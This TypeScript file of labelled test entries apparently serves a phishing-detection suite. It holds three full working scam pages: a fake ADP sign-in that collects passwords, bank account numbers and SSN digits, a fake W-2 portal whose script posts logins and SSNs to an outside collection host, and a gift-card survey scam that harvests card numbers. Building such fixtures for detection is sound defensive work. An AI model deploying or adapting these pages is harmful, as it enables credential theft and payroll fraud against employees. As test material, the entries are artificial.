import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, gtagStub } from '../parts/t-kit.js';

// Reported by employees: payroll, HR and perks lures — dev split.

const adpHost = 'myadp-portal.payroll-update.com';
const w2Host = 'employee-w2.paystub-center.net';
const perkHost = 'hartwell.employee-rewards-hub.com';

export const entries: Entry[] = [
  {
    id: 't-ph-adp-direct-deposit',
    label: 'phishing',
    kind: 'payroll-diversion',
    url: `https://${adpHost}/static/redbox/login.html?REASON=DD_CHANGE&TARGET=-SM-https%3A%2F%2Fmy.adp.com`,
    body: doc(
      'ADP | Sign in',
      `<style>body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f1f1f1}
.h{background:#fff;padding:14px 28px;border-bottom:4px solid #d0271d}.h b{color:#d0271d;font-size:28px;font-style:italic}
.c{max-width:420px;margin:40px auto;background:#fff;padding:32px;border-radius:6px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{font-size:13px;color:#333;display:block;margin-top:12px}input,select{width:100%;padding:10px;border:1px solid #999;border-radius:4px;box-sizing:border-box;margin-top:4px}
button{width:100%;margin-top:18px;padding:12px;background:#d0271d;color:#fff;border:0;border-radius:20px;font-weight:700;cursor:pointer}
.al{background:#fff4e5;border-left:4px solid #f29d00;padding:10px;font-size:13px}</style>`,
      `<div class="h"><b>ADP</b></div>
<div class="c"><div class="al">A change to your direct deposit account was requested on 11/27/2026. If you did not make this request, sign in now to review and cancel it before the next pay run.</div>
<form id="s1"><h2>Sign in to My ADP</h2><label>User ID</label><input name="user" required><label>Password</label><input name="pass" type="password" required><button>Sign In</button></form>
<form id="s2" hidden><h2>Verify deposit account</h2><p style="font-size:13px">Confirm the account that should receive your pay.</p>
<label>Bank name</label><input name="bank"><label>Routing number</label><input name="aba" inputmode="numeric" maxlength="9"><label>Account number</label><input name="acct" inputmode="numeric"><label>Account type</label><select name="t"><option>Checking</option><option>Savings</option></select>
<label>Last 4 of SSN</label><input name="ssn4" maxlength="4"><button>Confirm</button></form>
<p style="font-size:11px;color:#777;margin-top:22px">&copy; 2026 ADP, Inc. All rights reserved. Privacy | Legal | Cookies</p></div>
<script>
var acc={};function send(stage){return fetch('/static/redbox/gate.php?s='+stage,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(acc)})}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();acc.user=this.user.value;acc.pass=this.pass.value;send(1);this.hidden=true;document.getElementById('s2').hidden=false};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();Object.assign(acc,Object.fromEntries(new FormData(this)));send(2).finally(function(){location.href='https://my.adp.com/'})};
</script>`,
    ),
  },
  {
    id: 't-ph-payroll-w2-portal',
    label: 'phishing',
    kind: 'payroll-lure',
    url: `https://${w2Host}/employee/tax-docs/W2-2026?emp=hartwell`,
    body: doc(
      'Employee Self Service – Tax Documents',
      `<style>body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#eef2f5}
.nb{background:#21364b;color:#fff;padding:14px 26px;display:flex;justify-content:space-between}
.w{max-width:880px;margin:30px auto;display:flex;gap:24px}.p{flex:1;background:#fff;padding:24px;border-radius:4px}
.f{width:320px;background:#fff;padding:24px;border-radius:4px}.f input{width:100%;padding:9px;margin:5px 0 10px;border:1px solid #b8c2cc;box-sizing:border-box}
.f button{width:100%;padding:10px;background:#2a7ab0;color:#fff;border:0;cursor:pointer}
table{width:100%;font-size:13px;border-collapse:collapse}td{padding:7px;border-bottom:1px solid #eee}</style>`,
      `<div class="nb"><b>PayStub Center</b><span>Employee Self Service</span></div>
<div class="w"><div class="p"><h3>Your 2026 Form W-2 is ready</h3><p style="font-size:14px">Your employer has published year-end tax documents. Electronic consent is required before <b>January 15</b> to avoid a mailed copy delay.</p>
<table><tr><td>Document</td><td>Tax year</td><td>Status</td></tr><tr><td>Form W-2</td><td>2026</td><td style="color:#c0392b">Consent required</td></tr><tr><td>Form 1095-C</td><td>2026</td><td>Pending</td></tr><tr><td>Final pay statement</td><td>2026</td><td>Available</td></tr></table></div>
<div class="f"><b>Employee Login</b><form id="lf"><input name="email" placeholder="Work email" type="email" required><input name="pwd" placeholder="Network password" type="password" required><input name="dob" placeholder="Date of birth (MM/DD/YYYY)" required><input name="ssn" placeholder="SSN" required><button>View W-2</button></form>
<p style="font-size:11px;color:#6b7785">By signing in you consent to receive tax forms electronically.</p></div></div>
<script src="/employee/assets/ess.js"></script>`,
    ),
    routes: {
      [`${w2Host}/employee/assets/ess.js`]: jsRoute(`document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.set('c','hartwell');
fetch('https://w2-esscollect.pro/api/post',{method:'POST',body:d,mode:'no-cors'});this.innerHTML='<p>Thank you. Your documents will be available within 24 hours.</p>';});`),
    },
  },
  {
    id: 't-scam-employee-perks-giftcard',
    label: 'scam',
    kind: 'perks-survey',
    url: `https://${perkHost}/claim/holiday-2026?ref=hr&eid=00482`,
    body: doc(
      'Hartwell Employee Rewards – Holiday Appreciation',
      `${gtagStub('G-7QX1H2KZ4L')}<style>body{margin:0;font-family:Montserrat,Arial,sans-serif;background:linear-gradient(180deg,#0f3057,#00587a);color:#fff;min-height:100vh}
.c{max-width:560px;margin:0 auto;padding:30px 20px;text-align:center}.card{background:#fff;color:#222;border-radius:12px;padding:26px;margin-top:20px;text-align:left}
.g{display:flex;gap:10px;justify-content:center;margin:14px 0}.g div{background:#ffd166;color:#222;border-radius:8px;padding:14px 18px;font-weight:700}
.q button{display:block;width:100%;padding:12px;margin:8px 0;border:1px solid #ccd;border-radius:8px;background:#f6f8fb;cursor:pointer;font-size:15px}
.tm{color:#ffd166;font-weight:700}.cm{font-size:13px;border-top:1px solid #eee;padding-top:10px;margin-top:10px}</style>`,
      `<div class="c"><h1>&#127873; Holiday Appreciation 2026</h1><p>As a thank-you for this year, every Hartwell team member can claim a <b>$500 gift card</b>. Offer reserved for you for <span class="tm" id="tm">09:59</span>.</p>
<div class="g"><div>Amazon</div><div>Visa</div><div>Costco</div></div>
<div class="card"><div class="q" id="q"></div>
<div id="done" hidden><h3>Congratulations! Your $500 card is reserved.</h3><p>To activate the card, confirm your shipping address and pay the one-time <b>$4.95 activation &amp; shipping fee</b>. Card ships in 3-5 days.</p>
<form action="/claim/checkout" method="post"><input name="name" placeholder="Full name" style="width:100%;padding:9px;margin:4px 0"><input name="card" placeholder="Card number" style="width:100%;padding:9px;margin:4px 0"><input name="exp" placeholder="MM/YY" style="width:48%;padding:9px"><input name="cvv" placeholder="CVV" style="width:48%;padding:9px"><button style="width:100%;padding:12px;background:#ef476f;color:#fff;border:0;margin-top:8px;border-radius:8px">Activate my card</button></form>
<p style="font-size:10px;color:#888">By clicking you agree to enrol in RewardsPlus membership at $39.95/month after a 14-day trial. Cancel anytime.</p></div>
<div class="cm"><b>Linda M.</b> &mdash; got mine yesterday, thanks HR!! &#10084;<br><b>Raj P.</b> &mdash; took 2 minutes, legit.</div></div></div>
<script>
var qs=[['How long have you worked at Hartwell?',['Less than 1 year','1-5 years','More than 5 years']],['How satisfied are you with your benefits?',['Very satisfied','Satisfied','Not satisfied']],['Which card do you prefer?',['Amazon','Visa','Costco']]],i=0;
function r(){if(i>=qs.length){document.getElementById('q').hidden=true;document.getElementById('done').hidden=false;return}
var h='<p><b>Question '+(i+1)+' of '+qs.length+':</b> '+qs[i][0]+'</p>';qs[i][1].forEach(function(a){h+='<button onclick="i++;r()">'+a+'</button>'});document.getElementById('q').innerHTML=h}r();
var s=599;setInterval(function(){s=Math.max(0,s-1);document.getElementById('tm').textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000);
</script>`,
    ),
  },
];
